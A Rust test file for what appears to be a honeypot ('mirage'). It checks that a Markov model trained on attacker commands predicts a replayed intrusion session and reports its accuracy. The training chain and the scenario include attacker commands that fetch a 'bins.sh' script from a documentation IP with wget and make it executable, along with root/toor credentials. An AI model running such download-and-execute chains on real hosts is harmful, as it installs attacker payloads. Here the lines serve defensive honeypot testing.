//! Next-command prediction in replayed sessions: a model trained on a known chain, saved and
//! loaded as a node loads `models/`, predicts a replay of that chain (with other URLs) and
//! misses a command it never saw; `mirage.prediction` events, the scenario expectation and
//! the report's accuracy agree.

use std::path::{Path, PathBuf};

use mirage::config::AuthConfig;
use mirage::models::markov::Markov;
use mirage::models::normalize::{Normalized, normalize_line};
use mirage::models::{ModelHandle, Models};
use mirage::sim::report::ScenarioReport;
use mirage::sim::runner::{RunOptions, run_blocking};

/// The chain the model is trained on, one input line per entry.
const TRAINED: [&str; 5] = [
    "uname -a; cat /proc/cpuinfo",
    "free -m",
    "cd /tmp",
    "wget http://198.51.100.9/bins.sh",
    "chmod +x bins.sh",
];

/// A model set trained on [`TRAINED`], saved into `dir` and loaded back.
fn models(dir: &Path) -> Models {
    let chain: Vec<Normalized> = TRAINED.iter().flat_map(|l| normalize_line(l)).collect();
    let mut models = Models {
        markov: Some(Markov::trained(3, [chain.as_slice(), chain.as_slice()])),
        ..Models::default()
    };
    models.save(dir).expect("save models");
    Models::load(dir).expect("load models")
}

/// The trained chain with another download URL, then a command the model never saw:
/// seven commands, six predicted first time, the last missed.
fn scenario(dir: &Path, expect: &str) -> PathBuf {
    let file = dir.join("predicted.yaml");
    let text = format!(
        "version: 1\nname: predicted\nattacker:\n  credentials: [{{username: root, password: toor}}]\n\
         steps:\n\
         \x20 - input: uname -a; cat /proc/cpuinfo\n\
         \x20 - input: free -m\n    delay: 2\n\
         \x20 - input: cd /tmp\n    delay: 1\n\
         \x20 - input: wget http://203.0.113.77/bins.sh\n    delay: 1\n\
         \x20 - input: chmod +x bins.sh\n    delay: 1\n\
         \x20 - input: nproc --all\n    delay: 1\n\
         expect:\n{expect}"
    );
    std::fs::write(&file, text).expect("write scenario");
    file
}

fn run(file: PathBuf, models: ModelHandle) -> ScenarioReport {
    let options = RunOptions {
        jobs: 1,
        workers: 1,
        models,
        ..RunOptions::default()
    };
    let (mut reports, _) =
        run_blocking(&[file], &AuthConfig::default(), &options, |_| {}).expect("runs");
    reports.pop().expect("one report")
}

#[test]
fn a_replayed_chain_is_predicted_and_a_novel_command_missed() {
    let dir = tempfile::tempdir().unwrap();
    let models = models(&dir.path().join("models"));
    let version = models.version().to_owned();
    assert_ne!(version, "none");
    let expect = format!(
        "  events:\n\
         \x20   - eventid: mirage.prediction\n      count: 7\n\
         \x20   - eventid: mirage.prediction\n      count: 1\n      fields: {{actual: uname -a, hit_top1: \"true\", model: \"{version}\"}}\n\
         \x20   - eventid: mirage.prediction\n      count: 1\n      fields: {{actual: wget <URL>, hit_top1: \"true\", hit_top3: \"true\"}}\n\
         \x20   - eventid: mirage.prediction\n      count: 1\n      fields: {{actual: nproc --all, hit_top1: \"false\", hit_top3: \"false\"}}\n\
         \x20 prediction: {{min_top1: 0.8, min_top3: 0.85}}\n"
    );
    let report = run(scenario(dir.path(), &expect), ModelHandle::new(models));
    assert!(report.passed, "{}", report.table());
    let accuracy = report.prediction.expect("predicted");
    assert_eq!(accuracy.n, 7);
    assert!((accuracy.top1 - 6.0 / 7.0).abs() < 1e-9, "{accuracy:?}");
    assert!((accuracy.top3 - 6.0 / 7.0).abs() < 1e-9, "{accuracy:?}");
    assert!(
        report
            .table()
            .contains("prediction top1 0.86 top3 0.86 of 7"),
        "{}",
        report.table()
    );
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["prediction"]["n"], 7);
}

#[test]
fn an_accuracy_below_the_expectation_or_no_model_fails_the_scenario() {
    let dir = tempfile::tempdir().unwrap();
    let models = ModelHandle::new(models(&dir.path().join("models")));
    let file = scenario(dir.path(), "  prediction: {min_top1: 0.9}\n");
    let report = run(file.clone(), models);
    assert!(!report.passed);
    assert_eq!(report.failures.len(), 1, "{}", report.table());
    assert_eq!(report.failures[0].what, "expect.prediction.min_top1");
    assert_eq!(report.failures[0].expected, "at least 0.9");
    assert_eq!(report.failures[0].got, "0.857 over 7 commands");

    // The same session on a node without models: nothing predicted, the expectation fails.
    let report = run(file, ModelHandle::default());
    assert!(report.prediction.is_none());
    assert!(
        report.table().contains("prediction -"),
        "{}",
        report.table()
    );
    assert_eq!(report.failures.len(), 1, "{}", report.table());
    assert!(
        report.failures[0]
            .got
            .starts_with("no mirage.prediction event"),
        "{}",
        report.table()
    );
}

#[test]
fn a_prediction_expectation_out_of_range_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let file = scenario(dir.path(), "  prediction: {min_top1: 1.5}\n");
    let report = run(file, ModelHandle::default());
    let error = report.error.expect("not loaded");
    assert!(error.contains("expect.prediction.min_top1"), "{error}");
    assert!(error.contains("1.5 is not between 0 and 1"), "{error}");
}
